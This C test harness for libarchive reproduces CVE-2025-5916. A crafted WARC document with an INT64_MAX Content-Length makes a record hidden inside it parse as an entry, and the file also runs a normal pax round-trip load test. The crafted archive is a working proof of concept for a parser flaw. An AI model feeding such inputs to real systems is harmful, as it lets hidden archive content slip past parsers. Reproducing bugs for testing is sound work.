/* SPDX-License-Identifier: MIT */
/* Harness for libarchive (libarchive.so.13 from the Debian source tree),
 * reading crafted archives from memory through the public API; modes:
 *   warc-skip     CVE-2025-5916: a WARC record claims INT64_MAX content
 *                 bytes; _warc_skip adds the 4-byte separator to it
 *                 (signed overflow) and ignores that the skip failed, so
 *                 the bytes of that record are parsed as the next entry
 *                 (unpatched: "entry readme.txt"; patched: fatal).
 * The load threads write a pax archive of two files to memory and read it
 * back, checking names, sizes and contents. */
#include <archive.h>
#include <archive_entry.h>

#include "harness.h"

/* A conversion record whose Content-Length is INT64_MAX, then a resource
 * record that lies inside it and must never be seen as an entry. */
static const char warc_doc[] =
	"WARC/1.0\r\nWARC-Type: conversion\r\nWARC-Date: 2026-01-01T00:00:00Z\r\n"
	"Content-Length: 9223372036854775807\r\n\r\n"
	"WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: file://readme.txt\r\n"
	"WARC-Date: 2026-01-01T00:00:00Z\r\nContent-Type: text/plain\r\n"
	"Content-Length: 6\r\n\r\nhidden\r\n\r\n";

static const char *code_name(int r)
{
	switch (r) {
	case ARCHIVE_OK: return "OK";
	case ARCHIVE_EOF: return "EOF";
	case ARCHIVE_RETRY: return "RETRY";
	case ARCHIVE_WARN: return "WARN";
	case ARCHIVE_FAILED: return "FAILED";
	case ARCHIVE_FATAL: return "FATAL";
	}
	return "?";
}

static struct archive *reader(const void *buf, size_t len)
{
	struct archive *a = archive_read_new();
	archive_read_support_filter_all(a);
	archive_read_support_format_all(a);
	if (archive_read_open_memory(a, buf, len) != ARCHIVE_OK) {
		archive_read_free(a);
		return NULL;
	}
	return a;
}

static void repro(const char *mode)
{
	struct archive_entry *e;
	if (!strcmp(mode, "warc-skip")) {
		struct archive *a = reader(warc_doc, sizeof(warc_doc) - 1);
		if (!a) {
			printf("open failed\n");
			return;
		}
		int r = archive_read_next_header(a, &e);
		if (r == ARCHIVE_OK || r == ARCHIVE_WARN)
			printf("entry %s\n", archive_entry_pathname(e));
		else
			printf("next_header %s\n", code_name(r));
		archive_read_free(a);
	} else {
		printf("unknown mode %s\n", mode);
	}
}

static bool load_once(void)
{
	static const char *names[2] = { "dir/one.txt", "two.bin" };
	static const char *data[2] = { "first file\n", "second, a little longer\n" };
	char buf[16384];
	size_t used = 0;
	struct archive *w = archive_write_new();
	bool ok = archive_write_set_format_pax_restricted(w) == ARCHIVE_OK &&
		  archive_write_open_memory(w, buf, sizeof(buf), &used) == ARCHIVE_OK;
	for (int i = 0; ok && i < 2; i++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, names[i]);
		archive_entry_set_size(e, (la_int64_t)strlen(data[i]));
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		ok = archive_write_header(w, e) == ARCHIVE_OK &&
		     archive_write_data(w, data[i], strlen(data[i])) == (la_ssize_t)strlen(data[i]);
		archive_entry_free(e);
	}
	ok = archive_write_close(w) == ARCHIVE_OK && ok;
	archive_write_free(w);
	if (!ok)
		return false;
	struct archive *a = reader(buf, used);
	if (!a)
		return false;
	struct archive_entry *e;
	int i = 0;
	while (ok && archive_read_next_header(a, &e) == ARCHIVE_OK) {
		char got[64] = "";
		la_ssize_t n = archive_read_data(a, got, sizeof(got) - 1);
		ok = i < 2 && !strcmp(archive_entry_pathname(e), names[i]) && n >= 0 &&
		     (size_t)n == strlen(data[i]) && !memcmp(got, data[i], (size_t)n);
		i++;
	}
	archive_read_free(a);
	return ok && i == 2;
}
